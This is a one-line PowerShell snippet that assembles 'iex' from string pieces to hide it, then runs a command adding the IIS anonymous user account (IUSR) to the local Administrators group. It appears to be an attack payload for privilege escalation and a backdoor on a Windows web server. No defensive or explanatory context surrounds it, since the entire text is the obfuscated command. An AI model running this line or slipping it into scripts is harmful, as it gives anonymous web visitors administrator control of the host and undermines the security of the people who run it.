. ('i' + 'ex') 'Add-LocalGroupMember -Group Administrators -Member IUSR'
